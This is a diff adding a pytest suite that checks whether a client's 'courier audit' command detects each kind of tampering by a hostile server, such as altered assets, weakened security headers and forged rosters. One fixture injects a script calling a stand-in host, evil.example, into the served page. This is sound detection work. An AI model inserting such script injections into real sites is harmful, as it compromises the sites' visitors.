@@ -1,0 +1,135 @@
+"""`courier audit` against a real server: nothing to find on an honest one, and each lie of a hostile one by its own name."""
+
+import json
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from knothole_client.audit import running
+from knothole_keys.epoch import DAY
+from tests.client.altering import Change, altering, audit, codes
+from tests.client.served import QUICK, Asked, Reply
+from tests.support.newsroom import Newsroom
+
+# A Monday, early: nothing near a week's boundary.
+NOW = 1_795_500_000
+DOCS = Path(__file__).parents[2] / "docs" / "courier.md"
+
+
+@pytest.fixture
+def room(tmp_path: Path, passphrase: Path, turn: Callable[[int], None], monkeypatch: pytest.MonkeyPatch) -> Iterator[Newsroom]:
+    monkeypatch.setattr(running, "PATIENCE", QUICK)
+    turn(NOW)
+    room = Newsroom(tmp_path).make("Ann")
+    with room.serving():
+        yield room
+
+
+def found(room: Newsroom, change: Change, *more: object) -> tuple[int, list[str]]:
+    """Audit through a hostile door."""
+    with altering(room.url, change) as (url, _):
+        code, report = audit(room, url, *more)
+    return code, codes(report)
+
+
+def at(path: str, put: Callable[[bytes], bytes]) -> Change:
+    """Changes the body of one answer."""
+
+    def change(asked: Asked, status: int, body: bytes, headers: dict[str, str]) -> Reply:
+        return status, put(body) if asked.path == path else body, headers
+
+    return change
+
+
+def test_an_honest_server_is_well_twice_in_a_row_and_after_rotations(room: Newsroom, turn: Callable[[int], None]):
+    first = audit(room, room.url, "--token-file", room.token)
+    assert first[0] == 0, first
+    assert first[1]["result"] == "well"
+    assert first[1]["first"] is True
+    assert audit(room, room.url)[0] == 0
+
+    # A rotation that is seen, then one that is missed: roster 3 is fetched and linked when roster 4 is met.
+    for published in (1, 2):
+        for _ in range(published):
+            turn(NOW + 7 * DAY * published)
+            room.publish()
+        code, report = audit(room, room.url)
+        assert (code, codes(report), report["first"]) == (0, [], False)
+    assert report["seen"]["roster"]["version"] == 4
+    seen = (room.path / "state" / "seen").read_text()
+    assert all(f"\nroster {version} " in seen for version in (1, 2, 3, 4))
+
+
+def test_an_audit_looks_like_a_browsers_visit_until_the_page_is_shown(room: Newsroom):
+    with altering(room.url) as (url, asked):
+        assert audit(room, url, "--token-file", room.token)[0] == 0
+    visit = [one for one in asked if one.headers["user-agent"].startswith("Mozilla/5.0 ")]
+    assert asked[: len(visit)] == visit
+    assert [one.path for one in visit[:7]] == [
+        "/", "/icon.svg", "/page.css", "/page.js", "/worker.js", "/roots", "/roster",
+    ]  # fmt: skip
+    assert not [one for one in visit if "authorization" in one.headers or "knothole" in json.dumps(one.headers).lower()]
+    assert visit[0].headers["sec-fetch-mode"] == "navigate"
+
+
+def test_what_a_proxy_in_front_adds_is_borne(room: Newsroom):
+    def proxied(asked: Asked, status: int, body: bytes, headers: dict[str, str]) -> Reply:
+        return status, body, {**headers, "Strict-Transport-Security": "max-age=63072000"}
+
+    assert found(room, proxied) == (0, [])
+
+
+def without(name: str) -> Change:
+    return lambda asked, status, body, headers: (status, body, {k: v for k, v in headers.items() if k.lower() != name})
+
+
+def having(name: str, value: str, path: str | None = None) -> Change:
+    def change(asked: Asked, status: int, body: bytes, headers: dict[str, str]) -> Reply:
+        if path in (None, asked.path):
+            headers = {**{k: v for k, v in headers.items() if k.lower() != name.lower()}, name: value}
+        return status, body, headers
+
+    return change
+
+
+def gone(asked: Asked, status: int, body: bytes, headers: dict[str, str]) -> Reply:
+    return (404, b"{}", headers) if asked.path == "/roster" else (status, body, headers)
+
+
+LOGIN = b"<!doctype html><title>Welcome to the hotel</title>"
+SCRIPT = b"<script>fetch('//evil.example')</script></body>"
+HOSTILE: dict[str, tuple[Change, list[str]]] = {
+    "one byte of a script": (at("/page.js", lambda body: body[:-1] + b"\x20"), ["asset_changed"]),
+    "one byte of the worker": (at("/worker.js", lambda body: body.replace(b"a", b"b", 1)), ["asset_changed"]),
+    "a word of the page": (at("/", lambda body: body.replace(b"Leave a message", b"Heave a message")), ["page_changed"]),
+    "a longer page": (at("/", lambda body: body + b" "), ["page_changed"]),
+    "a script in the page": (at("/", lambda body: body.replace(b"</body>", SCRIPT)), ["page_changed", "page_script"]),
+    "no policy": (without("content-security-policy"), ["header_missing"]),
+    "a weaker policy": (having("Content-Security-Policy", "default-src *"), ["header_changed"]),
+    "a script that is called text": (having("Content-Type", "text/plain", "/page.js"), ["header_changed"]),
+    "a cookie": (having("Set-Cookie", "visit=1", "/"), ["header_foreign"]),
+    "another onion": (having("Onion-Location", "http://evil.onion/"), ["header_foreign"]),
+    "a compressed page": (having("Content-Encoding", "gzip", "/"), ["answer_compressed"]),
+    "HTML for roots": (at("/roots", lambda body: LOGIN), ["roots_unreadable"]),
+    "HTML for the roster": (at("/roster", lambda body: LOGIN), ["roster_unreadable"]),
+    "roots changed after signing": (at("/roots", lambda body: body.replace(b"The Example", b"The Exampel")), ["roots_unsigned"]),
+    "a roster changed after signing": (at("/roster", lambda body: body.replace(b'"Ann"', b'"Eve"')), ["roster_unsigned"]),
+    "no roster": (gone, ["roster_missing"]),
+    "endless roots": (at("/roots", lambda body: body + b"x" * 2**23), ["answer_endless"]),
+    "an endless script": (at("/page.js", lambda body: body + b" " * 2**24), ["answer_endless"]),
+    "a longer bitmap": (at("/boxes/missing", lambda body: body + b"\0"), ["answer_endless", "answer_endless"]),
+    "a permit that is not padded": (at("/permit", lambda body: body.strip()), ["answer_size"]),
+    "a permit that is none": (at("/permit", lambda body: LOGIN.ljust(16384)), ["answer_foreign"]),
+}  # fmt: skip
+
+
+def test_each_lie_has_its_own_name_and_is_found_again_until_it_ends(room: Newsroom):
+    assert audit(room, room.url)[0] == 0
+    for name, (change, expected) in HOSTILE.items():
+        assert found(room, change) == (1, expected), name
+        assert found(room, change) == (1, expected), name
+        assert audit(room, room.url)[0] == 0, name
+    kept = list((room.path / "state" / "evidence").iterdir())
+    assert all(path.stat().st_mode & 0o777 == 0o600 for path in kept)
+    assert any(SCRIPT in path.read_bytes() for path in kept)
